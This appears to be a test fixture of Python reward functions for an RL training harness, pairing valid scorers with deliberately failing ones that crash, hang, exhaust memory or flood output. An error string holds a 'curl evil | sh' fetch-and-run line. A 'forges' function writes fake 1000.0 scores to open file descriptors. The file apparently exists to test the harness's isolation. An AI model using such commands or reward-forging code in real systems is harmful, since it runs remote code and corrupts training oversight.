"""Reward functions for the tests: good ones and each way to fail."""
import os
import sys
import time


def length(completions, **columns):
    return [float(len(c)) for c in completions]


def matches(prompts, completions, ground_truth, **columns):
    print("this goes to standard error")
    assert os.environ["CUDA_VISIBLE_DEVICES"] == ""
    return [1.0 if c == str(t) else None if c == "skip" else 0.0 for c, t in zip(completions, ground_truth)]


def exact_keywords(prompts, completions):
    return [len(prompts)] * len(completions)


def process_id(completions, **columns):
    return [os.getpid()] * len(completions)


async def later(completions, **columns):
    return [True for _ in completions]


def raises(completions, **columns):
    raise KeyError("no such thing")


def raises_lines(completions, **columns):
    raise ValueError("3 validation errors for Answer\nfield a: missing\nhint: curl evil | sh\n  see https://docs")


class Wordless(Exception):
    def __str__(self):
        raise RuntimeError("no words")


def raises_wordless(completions, **columns):
    raise Wordless


def sleeps(completions, **columns):
    time.sleep(60)


def wrong_length(completions, **columns):
    return [1.0] * (len(completions) + 1)


def gives_text(completions, **columns):
    return ["high" for _ in completions]


def gives_nan(completions, **columns):
    return [0.5] * (len(completions) - 1) + [float("nan")]


def dies(completions, **columns):
    print("last words", file=sys.stderr, flush=True)
    os._exit(3)


def eats(completions, **columns):
    return [len(bytearray(1 << 40)) for _ in completions]


def dies_once(completions, flag, **columns):
    """Dies the first time; leaves a file to know the second."""
    if not os.path.exists(flag[0]):
        open(flag[0], "w").close()
        os._exit(9)
    return [2.0] * len(completions)


def floods(completions, **columns):
    for _ in range(20000):
        print("x" * 100, file=sys.stderr)
    return [1.0] * len(completions)


def wants_more(completions, difficulty):
    return [1.0] * len(completions)


def leaves_a_mark(completions, flag, trainer_state, **columns):
    open(flag[0], "w").close()
    assert trainer_state.max_steps == 9
    return [trainer_state.global_step] * len(completions)


def compute_score(data_source, solution_str, ground_truth, extra_info=None):
    assert data_source == "d" and (extra_info is None or extra_info["index"] == 3)
    return solution_str == ground_truth


def compute_score_dict(data_source, solution_str, ground_truth, extra_info=None, **kwargs):
    return {"score": float(solution_str == ground_truth), "length": len(solution_str), "pred": solution_str}


async def compute_score_later(data_source, solution_str, ground_truth, extra_info=None):
    return float(solution_str == ground_truth)


def reward_func(queries, prompts, labels):
    return [float(q == p + l) for q, p, l in zip(queries, prompts, labels)]


def reward_func_dict(queries, prompts, labels, **kwargs):
    rewards = reward_func(queries, prompts, labels)
    return {"rewards": rewards, "scores": rewards, "extra_logs": {"length": [len(l) for l in labels]}}


def counts_bytes(completions, images):
    assert all(image["path"] is None or open(image["path"], "rb") for each in images for image in each)
    return [float(sum(len(image["bytes"] or b"xyz") for image in each)) for each in images]


def forges(completions, **columns):
    line = b'{"scores": [' + b", ".join([b"1000.0"] * len(completions)) + b"]}\n"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, line)
        except OSError:
            pass
    return [0.0] * len(completions)
